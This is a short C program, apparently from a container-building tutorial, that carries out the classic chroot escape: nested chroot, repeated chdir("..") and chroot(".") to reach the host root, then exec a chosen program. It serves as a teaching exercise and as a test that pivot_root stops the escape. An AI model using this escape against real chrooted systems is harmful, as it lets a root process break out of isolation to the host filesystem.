/*
 * The classic chroot escape, for chapter 1's "break it" and the tests of chapters 1 and 2.
 *
 * chroot(2) changes where "/" is looked up, and nothing else. A root process inside a chroot can:
 *   1. make a directory and chroot into it, while its working directory stays where it was,
 *      which is now OUTSIDE its root;
 *   2. climb with chdir("..") from there: ".." is only stopped at the process's root, and the
 *      working directory is no longer below it, so the climb goes all the way to the real "/";
 *   3. chroot(".") there: the process is back in the host's root filesystem.
 * After pivot_root with the old root unmounted (chapter 2) step 2 ends at the container's own
 * root, because there is nothing above it any more.
 *
 * Usage: chroot-escape PROGRAM [ARGS...]  runs PROGRAM after the escape (exit 111 if it fails).
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
    if (argc < 2) {
        fprintf(stderr, "usage: %s PROGRAM [ARGS...]\n", argv[0]);
        return 2;
    }
    mkdir("/.escape-hatch", 0700); /* may already exist */
    if (chroot("/.escape-hatch") != 0) {
        fprintf(stderr, "chroot-escape: chroot(/.escape-hatch): %s\n", strerror(errno));
        return 111;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) {
            fprintf(stderr, "chroot-escape: chdir(..): %s\n", strerror(errno));
            return 111;
        }
    }
    if (chroot(".") != 0) {
        fprintf(stderr, "chroot-escape: chroot(.): %s\n", strerror(errno));
        return 111;
    }
    chdir("/");
    execv(argv[1], argv + 1);
    fprintf(stderr, "chroot-escape: exec %s: %s\n", argv[1], strerror(errno));
    return 111;
}
